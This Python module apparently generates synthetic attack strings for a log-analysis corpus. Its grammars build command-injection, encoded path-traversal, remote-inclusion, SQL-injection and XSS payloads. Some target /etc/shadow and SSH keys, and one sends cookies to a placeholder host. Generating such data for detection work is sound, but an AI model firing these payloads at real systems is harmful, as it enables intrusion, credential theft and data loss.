"""What tools try first: the barest forms of an attack, a separator and a command, a system's file, half a statement.

Each is put together of parts, so that what is learnt is how such values are built rather than a list of them.
"""

from __future__ import annotations

from typing import Final

from weirlog.models.corpus.grammar import Chance, Rules
from weirlog.models.corpus.values import LOWER

_LOG_SERVERS: Final = ("apache", "apache2", "httpd", "nginx", "lighttpd", "proftpd", "mysql", "qmail", "news", "vsftpd", "tomcat", "squid", "exim")  # fmt: skip
_LOG_ROOTS: Final = ("/var/log", "/var/log", "/usr/local/apache/logs", "/opt/lampp/logs", "/usr/local/var/log", "/var/www/logs", "/etc/httpd/logs")  # fmt: skip
_DAEMONS: Final = ("apache2", "httpd", "nginx", "php", "php5", "mysql", "my", "proftpd", "vsftpd", "lighttpd", "samba", "sshd", "redis")  # fmt: skip
_DOTS: Final = ("..", "..", "..", "...", "....", ".", "0x2e0x2e", "%2e%2e", ".%2e", "%c0%ae%c0%ae", "%e0%80%ae.", "..%00", "%uff0e%uff0e")  # fmt: skip
_SLASHES: Final = ("/", "/", "\\", "/\\", "//", "0x2f", "0x5c", "%5c", "%c0%af", "%c1%9c", "%u2215", "%e0%80%af", "%bg%qf", "%25c1%259c")  # fmt: skip


def _spelt_step(chance: Chance) -> str:
    """Return one step upwards as filters are meant to miss it: dots and a slash, with something between or behind."""
    dots = chance.pick(_DOTS)
    junk = chance.pick(
        ("", "", "", "", "^", "?", ";", "%20", "%09", "%0d", "|", "a^", "¤", "\u0000", chance.letters(LOWER, 1, 1))
    )
    return dots + junk + chance.pick(_SLASHES)


def _spelt_climb(chance: Chance) -> str:
    return chance.pick(("", "", "/", "\\")) + _spelt_step(chance) * chance.number(1, 8)


def _server_log(chance: Chance) -> str:
    server = chance.pick(_LOG_SERVERS)
    name = chance.pick(("access", "error", "access", "error", server, "ssl_request", "other_vhosts_access"))
    root = chance.pick(_LOG_ROOTS)
    folder = chance.pick((f"/{server}", f"/{server}", ""))
    return root + folder + "/" + name + chance.pick(("", ".log", "_log", "-log", ".log.1"))


def _settings_file(chance: Chance) -> str:
    """Return the path of a configuration that a web server's user can read."""
    program = chance.pick(_DAEMONS)
    root = chance.pick(
        ("/etc", "/etc", "/usr/local/etc", f"/usr/local/{program}", f"/opt/{program}", "/private/etc", "/var/local", f"c:\\{program}", f"/xampp/{program}")
    )  # fmt: skip
    return f"{root}/{chance.pick(('', program + '/', 'conf/', 'conf.d/'))}{program}{chance.pick(('.conf', '.ini', '.cnf', 'd.conf'))}"


def _echoed(chance: Chance) -> str:
    """Return a command that prints a marker around a sum, as tools do to see that it ran."""
    marker = chance.letters(LOWER, 5, 8)
    total = f"$(({chance.number(1, 99)}+{chance.number(1, 99)}))"
    return chance.pick(
        (f"echo {marker}{total}$(echo {marker}){marker}", f"echo$IFS{marker}{total}$(echo$IFS{marker}){marker}", f"print(`echo {marker}`.`echo {total}`.`echo {marker}`)",
         f"print(`echo {marker};echo {total};echo {marker}`)", f"echo `echo {marker}`{total}", f"expr {chance.number(100, 999999)} + {chance.number(100, 999999)}",
         f"str=$(echo {marker}); str1=${{#str}}; if [ {len(marker)} -ne ${{str1}} ]; then sleep 0; else sleep {chance.number(1, 9)}; fi", f"set /a {chance.number(10, 999)}*{chance.number(10, 999)}")
    )  # fmt: skip


SHELL_FORMS: Final[Rules] = {
    "echoed": _echoed,
    "opener": [";", ";", "|", "|", "&", "&&", "||", "\n", "'|", "\"|", "\";", "';", "\"&&", "'&&", "\"&", ")|", "$(", "`", "+|+", ", ;", "-v;", "\\n", "x|", "1;", "'.", "\"."],
    "closer": ["", "", "", "", " ", "\n", "\n", "#", " #", "|", "&", ";", "'", "\"", "|rem ", "|rem", " rem", "\"|", "'|", "\\n", "|| x", "`", ")", ";#", "&'", "\u0000", ".'", "//"],
    "simple": ["id", "id", "ls", "ls -l /«folder»", "ls /«folder»", "ls -la", "dir", "dir c:\\", "dir c:/", "pwd", "uname", "uname -a", "uname >«rnd»", "rm «rnd»", "cat /etc/passwd", "cat /etc/hosts", "cat /etc/issue", "cat «file»", "/usr/bin/id", "/bin/ls", "usr/bin/id", "«bin»«unix_tool»", "«bin»«unix_tool»", "«bin»«unix_tool» «file»", "whoami", "netstat -an", "ipconfig", "ifconfig", "ps", "ps -ef",
               "sleep «d»", "sleep «small»", "ping -n «d» «ip»", "ping -c «d» «ip»", "ping -w «nn» -n «d» «ip»", "ping -i «small» 127.0.0.1", "timeout «d»", "net user", "net localgroup «noun» «word» /add", "net view", "type c:\\boot.ini", "type %windir%\\win.ini", "echo «rnd»", "echo «rnd»;echo", "touch /tmp/«rnd»", "chmod 777 /tmp/«rnd».sh", "/tmp/«rnd».sh >/dev/null", "system('«simple»')", "exec('«simple»')", "passthru('id')",
               "nslookup «host»", "wget «host»", "curl «host»", "perl -e 'print \"x\"x«nn»'", "perl -e 'print \"%p\" x «small»'", "phpinfo()", "eval($_post['«rnd»']);", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "«echoed»", "tail /var/log/messages", "cp «file» «file»", "mail «email»", "id"],
    "bin": ["/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/", "/???/", "bin/", "usr/bin/", "../bin/"],
    "unix_tool": ["id", "ls", "cat", "uname", "whoami", "ps", "env", "netstat", "ifconfig", "wget", "curl", "nc", "ping", "sh", "bash", "perl", "python3", "touch", "sleep", "w", "df", "find", "hostname"],
    "folder": ["", "etc", "tmp", "home", "home/*", "var/www", "bin", "usr", "root", "opt"],
    "bare_command": ["«opener»«simple»«closer»", "«opener»«simple»«closer»", "«opener» «simple»«closer»", "«opener» «simple» «closer»", "«opener»«simple»", "«opener» «simple»", "«opener»«simple»«opener»«simple»", "<!--#exec cmd=\"«simple»\"-->", "«word»«opener»«simple»«closer»", "«n»«opener»«simple»«closer»", "«file»«opener»«simple»|", "«file»|«simple»|", "`«simple»`", "$(«simple»)", "«echoed»"],
}  # fmt: skip

FILE_FORMS: Final[Rules] = {
    "spelt_climb": _spelt_climb,
    "server_log": _server_log,
    "settings_file": _settings_file,
    "system_file": ["/etc/passwd", "/etc/passwd", "/etc/passwd", "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/motd", "/etc/crontab", "/etc/fstab", "/etc/sudoers", "/proc/self/environ", "/proc/version", "/proc/self/cmdline", "/proc/cpuinfo", "/proc/mounts", "/proc/net/tcp", "/root/.bash_history", "/root/.ssh/id_rsa", "/home/«first»/.ssh/id_rsa", "/var/mail/root", "/var/log/auth.log", "/var/log/messages", "/var/log/syslog", "/var/log/kern.log", "/var/log/wtmp",
                    "«server_log»", "«server_log»", "«server_log»", "«settings_file»", "«settings_file»", "/boot.ini", "c:\\boot.ini", "c:\\windows\\win.ini", "c:\\winnt\\win.ini", "c:\\winnt\\repair\\sam", "c:\\windows\\system32\\config\\sam", "/windows/win.ini", "\\windows\\system.ini", "/autoexec.bat", "/web-inf/web.xml", "/winnt/system32/cmd.exe"],
    "secret_file": ["etc/passwd", "etc/passwd", "etc/shadow", "etc/issue", "boot.ini", "boot.ini", "windows/win.ini", "web-inf/web.xml", "web.config", ".htaccess", ".htpasswd", ".env", "config/password", "config.php", "config/database.yml", "winnt/system32/cmd.exe?/c+dir", "autoexec.bat", "proc/self/environ", "«server_log»"],
    "cut": ["", "", "", "", "\u0000", "\u0000", "%00", "\u0000.html", "\u0000.jpg", "?", "|", "#", ".", "%2500"],
    "bare_path": ["«system_file»«cut»", "«system_file»«cut»", "«system_file»«cut»", "«system_file»«cut»", "«spelt_climb»«secret_file»«cut»", "«spelt_climb»«secret_file»«cut»", "«spelt_climb»«secret_file»", "../«secret_file»«cut»", "/../«secret_file»", "..\\«secret_file»", "«noun»/../../«secret_file»", "file:«system_file»", "file://«system_file»"],
    "ask": ["?", "??", "???", "?", "%00", "\u0000", "&", "#"],
    "page": ["«rnd»", "«rnd»", "«word»", "«word».txt", "«word».gif", "«word».php", "«rnd».jpg", "inc.txt", "«word»/«word»", "«word».htm"],
    "bare_inclusion": ["http://«ip»:«nn»/«page»«ask»", "http://«ip»/«page»«ask»", "http://«host»/«page»«ask»", "https://«host»/«page»«ask»", "ftp://«host»/«page»«ask»", "http://«ip»:«nn»/«rnd»?«ask»"],
}  # fmt: skip

SQL_FORMS: Final[Rules] = {
    "bare_statement": ["«logic_word» «d»=«d»", "and «nn»=«nn»", "or «d»=«d»", "or «d»=«d»#", "or «d»=«d»--", "and sleep(«d»)", "order by «small»#", "order by «nn»--", ") order by «nn»#", "union select", "union all select", "union /*!select*/ «secret»", "union all select «nulls»", "having «d»=«d»", "having «d»=«d»--", "group by «noun» having «d»=«d»", "or «noun» like '%«word»%", "or username is not null", "or sleep(«d»)#", "sleep(«d»)#", "sleep(__time__)#", "$(sleep «small»)", "benchmark(«n»0000,md5(1))#",
                       "waitfor delay '0:0:«d»'--", "«word»\") or (\"«word»\"=\"«word»", "«word»') or ('«word»'='«word»", "«word»\" or \"«word»\"=\"«word»", "«word»' or '«word»'='«word»", "«n»;select count(*) from «tables»", "«n», (select «secret» from «tables»)", "' and «nn»=«nn»", "\" and «nn»=«nn»", "«n» and «nn»=«nn» and («nn»=«nn»", "«n») and («nn»=«nn»", "«n» or «d»=«d»", "«n» and «d»=«d»", "';shutdown--", "@@version", "@variable", "«n»' or sleep(«d»)='", "load_file(0x«hex»)", "‘ or «d»=«d»--"],
}  # fmt: skip

MARKUP_FORMS: Final[Rules] = {
    "foreign": ["http://«host»", "//«host»/«word»", "http://«host»/«word».js", "https://«host»/«rnd»", "http://«ip»/«word»", "data:text/html;base64,«b64»", "javascript:«run»", "vbscript:«run»"],
    "bare_markup": ["<script>«run»", "<script>", "</script><script>", "<script src=«foreign»", "<script «word»>«run»</script «d»", "<script>«word»</script>", "<meta http-equiv=set-cookie content=\"«word»=«nn»\">", "<meta http-equiv=set-cookie content=«word»=«nn»>", "<meta http-equiv=\"refresh\" content=\"«d»;url=«foreign»\">", "<iframe src=«foreign»>", "<iframe src=\"«foreign»\"></iframe>", "<object data=«foreign»></object>", "<embed src=\"«foreign»\">", "<applet code=«word» codebase=\"«foreign»\">", "<base href=\"«foreign»\">", "<link rel=import href=«foreign»>", "<form action=\"«foreign»\" method=post><input name=password type=password></form>", "<body «event»=«run»", "<img «event»=«run»", "<img src=\"«foreign»?c=\"+document.cookie>",
                    "+ADw-script+AD4-«run»+ADw-/script+AD4-", "<style>*[{}@import'«word».css?]{color:red}</style>«word»", "<div style=\"«noun»:url(javascript:«run»)\">", "<x «event»=«run»>«word»", "\"><«element» «event»=«run»", "'><«element» «event»=«run»>", "%3cscript%3e«run»%3c/script%3e", "\"><h1>«word»</h1>", "\"><iframe src=«foreign»>", "'\"--></style></script><script>«run»</script>", "<svg><script>«run»", "<html xmlns:«word»><body «event»=«run»>", "<xml id=«word»><«word»><![CDATA[<img src=\"javas]]><![CDATA[cript:«run»\">]]>", "window[['al'+'ert']](«n»)", "<img src=xx:xx «event»=window[['alert']](«n»)>"],
}  # fmt: skip
